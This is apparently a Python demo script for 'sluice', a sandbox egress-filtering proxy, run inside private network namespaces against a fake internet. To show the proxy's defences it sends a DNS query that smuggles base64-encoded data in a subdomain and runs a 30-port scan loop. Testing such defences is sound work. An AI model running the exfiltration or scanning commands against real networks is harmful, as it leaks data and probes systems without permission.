"""The live part of the sluice demo, run by scripts/demo after the build.

It builds private network namespaces (a small fake internet with DNS and
nginx, and a host), brings up a sandbox with sluice-netsetup, starts
sluice-proxy with the example policy's shape against that internet, runs curl
from inside the sandbox to allowed and denied names, prints the flow-log
lines, and removes everything, also on failure or Ctrl-C. Nothing touches the
machine's own network namespace.
"""

import json
import os
import re
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tests" / "integration"))

import testworld                                    # noqa: E402
from testworld import ADDR, wait_for                # noqa: E402
import subprocess                                   # noqa: E402

BUILD = Path(os.environ.get("SLUICE_BUILD", ROOT / "build"))
DOCS = ROOT / "docs"            # the README's pictures of the demo's report and graph
# headless Chromium without a network or its own background traffic, for the pictures
CHROMIUM = ["unshare", "-n", "chromium", "--headless", "--no-sandbox", "--disable-gpu",
            "--hide-scrollbars", "--disable-background-networking", "--disable-component-update",
            "--disable-sync", "--no-first-run", "--disable-default-apps", "--disable-extensions"]
# a port scan: TLS to N ports of an address (no name: no SNI, refused at once)
SCAN = "for p in $(seq 1 30); do curl -sk --max-time 2 https://203.0.113.99:$p/; done; " \
       "echo scanned 30 ports"
POLICY = """\
version: 1
egress:
  - domain: www.example.test          # TLS
  - domain: plain.example.test        # plain HTTP, checked on every request
    ports: [80]
  - domain: private.example.test      # allowed by name, but it resolves to 10.0.0.1
  - domain: api.example.test          # as config/example.yaml's api.github.com rule:
    inspect: true                     # TLS terminated by the proxy, so these HTTP
    http:                             # rules apply to each request inside TLS
      - methods: [GET, HEAD]
        paths: ["/allowed*"]
destinations:
  allow_ranges: [203.0.113.0/24]      # the demo's internet lives in a TEST-NET
"""
# The same, reloaded live: each allowed name answered with a virtual address of
# its own, so that a rule can allow any TCP protocol by name
POLICY_VIRTUAL = POLICY.replace("egress:\n", """egress:
  - domain: ssh.example.test          # an ssh-style server: raw TCP by name
    ports: [22]
""") + """dns:
  answers: virtual
"""
SSH4 = "203.0.113.22"
# an ssh-style client: connect to port 22 by name, print the server's greeting
GREETING = """\
import socket, sys
try:
    s = socket.create_connection((sys.argv[1], 22), timeout=3)
    print(s.getpeername()[0], "says:", s.recv(100).decode().strip() or "(closed)")
except OSError as e:
    print(f"{sys.argv[1]}: {e}")
"""


def say(text):
    print(f"\n\033[1m{text}\033[0m", flush=True)


def sandbox_run(world, sandbox, argv, netns_exec=False):
    """ARGV in the sandbox; NETNS_EXEC: through `ip netns exec`, which shows the
    sandbox its /etc/netns files (resolv.conf, and the CA in /etc/ssl)."""
    shown = " ".join(str(a) for a in argv)
    print(f"sandbox$ {shown}", flush=True)
    r = world.run(sandbox, argv, timeout=15, nsenter=not netns_exec)
    out = (r.stdout + r.stderr).strip()
    print("  " + out.replace("\n", "\n  ") if out else f"  (exit {r.returncode})")
    return r


def curl(world, sandbox, url, *extra):
    host = url.split("/")[2]
    port = "443" if url.startswith("https") else "80"
    # The sandbox is told the name lives at the capture server's address: the
    # proxy ignores that and resolves the name itself (P4).
    return sandbox_run(world, sandbox, ["curl", "-sS", "--max-time", "5", "--cacert",
                                        str(world.ca_cert), "--resolve",
                                        f"{host}:{port}:{ADDR.CAPTURE4}", *extra, url])


def main():
    testworld.install_signal_handlers()
    testworld.reap_stale()
    world = testworld.World()
    run_env = None
    name = None
    try:
        say("== building a private test internet (namespaces, dnsmasq, nginx) ...")
        world.setup()
        run_env = dict(os.environ, SLUICE_RUN_DIR=str(world.tmp / "sluice-run"))
        name = world.name("demo")
        netsetup = str(BUILD / "netsetup" / "sluice-netsetup")

        say("== sluicectl ca init: the inspect-mode CA, name-constrained to the inspect rules")
        policy = testworld.open_path_to(world.tmp) / "policy.yaml"   # reread as nobody
        policy.write_text(POLICY)
        ca = world.tmp / "ca"
        subprocess.run([str(BUILD / "ctl" / "sluicectl"), "ca", "init", str(ca), "--policy",
                        str(policy)], check=True)
        os.chmod(ca, 0o755)

        say(f"== sluice-netsetup up {name} --ca ca.pem: the sandbox's namespace, its rules, "
            "and the CA in its /etc/ssl")
        r = world.run(world.host, [netsetup, "up", name, "--json", "--ca", str(ca / "ca.pem")],
                      env=run_env, nsenter=True, check=True)
        info = json.loads(r.stdout)
        print(json.dumps(info, indent=2))
        gw = info["gateway_addr"].split("/")[0]

        say("== sluice-proxy for the sandbox, with this policy")
        print(POLICY)
        log = world.tmp / "flows.jsonl"
        proxy = world.spawn(world.host, [BUILD / "proxy" / "sluice-proxy", "--policy", policy,
                                         "--listen", info["proxy_listen"],
                                         "--dns-listen", info["dns_listen"], "--upstream-dns",
                                         ADDR.DNS4, "--id", name, "--log", log,
                                         "--ca-cert", ca / "ca.pem", "--ca-key", ca / "ca.key",
                                         # the demo internet's servers have test certificates
                                         "--upstream-ca", world.ca_cert],
                            name="sluice-proxy")
        wait_for(lambda: "serving with policy" in proxy.log(), 5.0, what="sluice-proxy")

        say("== DNS: the sandbox asks anyone it likes; the proxy answers")
        sandbox_run(world, name, ["dig", "+short", "www.example.test"])
        sandbox_run(world, name, ["dig", "+short", "@9.9.9.9", "www.example.test"])
        sandbox_run(world, name, ["dig", "+noall", "+comments", "c2VjcmV0.exfil.example.test",
                                  "TXT"])
        leaked = [q for q in world.dns_queries() if "exfil" in q["qname"]]
        print(f"  upstream DNS saw {len(leaked)} queries for the exfil name")

        say("== allowed: TLS by SNI, plain HTTP by Host")
        curl(world, name, "https://www.example.test/")
        curl(world, name, "http://plain.example.test/")

        say("== inspect mode: each request inside TLS is checked (the sandbox trusts the CA)")
        for method, path, extra in (("GET", "/allowed/x", ()), ("POST", "/allowed/x", ()),
                                    ("GET", "/secret", ()),
                                    ("GET", "/allowed/x", ("-H", "Host: www.example.test"))):
            sandbox_run(world, name, ["curl", "-sS", "-i", "--max-time", "5", "--cacert",
                                      "/etc/ssl/certs/sluice-ca.pem", "-X", method, *extra,
                                      f"https://api.example.test{path}"], netns_exec=True)

        say("== denied: a name no rule allows (TLS alert), the same over HTTP (403)")
        curl(world, name, "https://other.example.test/")
        curl(world, name, "http://other.example.test/", "-i")

        say("== denied: an allowed name that resolves to a private address (P5)")
        curl(world, name, "https://private.example.test/")

        say("== denied: no name at all, just an address")
        curl(world, name, f"https://{ADDR.WWW4}/", "-k")

        say("== any TCP protocol by name: the policy reloaded with dns.answers: virtual and")
        print("   a rule for ssh.example.test port 22 (an ssh-style server that speaks first)")
        world.add_inet_addr(SSH4)
        world.dns_add("ssh.example.test", "A", SSH4)
        banner_log = world.tmp / "banner.jsonl"
        world.spawn(world.inet, [sys.executable, ROOT / "tests" / "integration" /
                                 "banner_server.py", "--listen", f"{SSH4}:22", "--log",
                                 banner_log], name="banner")
        wait_for(lambda: Path(f"{banner_log}.ready").exists(), 5.0, what="banner server")
        policy.write_text(POLICY_VIRTUAL)
        wait_for(lambda: any(json.loads(x).get("event") == "reload"
                             for x in log.read_text().splitlines()), 5.0,
                 what=f"the reload: {proxy.log()}")
        greet = world.tmp / "greet.py"
        greet.write_text(GREETING)
        greet.chmod(0o644)
        sandbox_run(world, name, ["dig", "+short", "ssh.example.test"])
        sandbox_run(world, name, ["python3", greet, "ssh.example.test"], netns_exec=True)
        say("== denied: the same port on a name no rule allows (NXDOMAIN, nothing dialled),")
        print("   and on the server's real address (no name: nothing says where it goes)")
        sandbox_run(world, name, ["python3", greet, "other.example.test"], netns_exec=True)
        sandbox_run(world, name, ["python3", greet, SSH4], netns_exec=True)

        say("== QUIC (udp/443) is refused at once, so clients fall back to TCP")
        sandbox_run(world, name, ["python3", "-c",
                                  "import socket; s=socket.socket(socket.AF_INET, "
                                  "socket.SOCK_DGRAM); s.connect(('203.0.113.99', 443)); "
                                  "s.send(b'quic'); s.settimeout(1)\n"
                                  "try: s.recv(10)\n"
                                  "except OSError as e: print('QUIC:', e)"])
        say("== an attacker's move: a scan of 30 ports from the sandbox, one port_scan alert")
        sandbox_run(world, name, ["sh", "-c", SCAN])
        wait_for(lambda: sum('"event":"deny"' in x and '203.0.113.99:30"' in x
                             for x in log.read_text().splitlines()), 5.0, what="the scan")
        for line in log.read_text().splitlines():
            if '"event":"alert"' in line:
                print(line)
        say("== the flow log")
        for line in log.read_text().splitlines():
            print(line)
        print(f"\nthe capture server (the address the sandbox was told) saw "
              f"{len(world.capture_records())} connections")

        say("== sluicectl report and graph: this run as a page and as a picture")
        ctl = str(BUILD / "ctl" / "sluicectl")
        report, graph = world.tmp / "report.html", world.tmp / "policy.svg"
        subprocess.run([ctl, "report", log, "-o", report], check=True)
        subprocess.run([ctl, "report", log], check=True)
        subprocess.run([ctl, "graph", policy, "--log", log, "-o", graph], check=True)
        # the graph's own size (Graphviz writes it in points: 4/3 of a pixel each)
        pt = re.search(r'<svg width="(\d+)pt" height="(\d+)pt"', graph.read_text())
        for page, png, size in ((report, DOCS / "demo-report.png", "900,1300"),
                                (graph, DOCS / "demo-graph.png",
                                 f"{int(pt[1]) * 4 // 3 + 8},{int(pt[2]) * 4 // 3 + 8}")):
            subprocess.run(CHROMIUM + [f"--window-size={size}", f"--screenshot={png}",
                                       f"file://{page}"], check=True, capture_output=True,
                           timeout=120)
            print(f"{page.name} -> {png.relative_to(ROOT)} (shown in the README)")

        say(f"== sluice-netsetup verify {name}")
        r = world.run(world.host, [netsetup, "verify", name], env=run_env, nsenter=True)
        print(r.stdout.strip() or r.stderr.strip())
        proxy.stop()
        world.run(world.host, [netsetup, "down", name], env=run_env, nsenter=True,
                  check=True)
        name = None
        say("== done: sandbox down, namespaces removed")
        return 0
    finally:
        if name and run_env:
            world.run(world.host, [str(BUILD / "netsetup" / "sluice-netsetup"), "down", name],
                      env=run_env, nsenter=True)
        world.teardown()


if __name__ == "__main__":
    sys.exit(main())
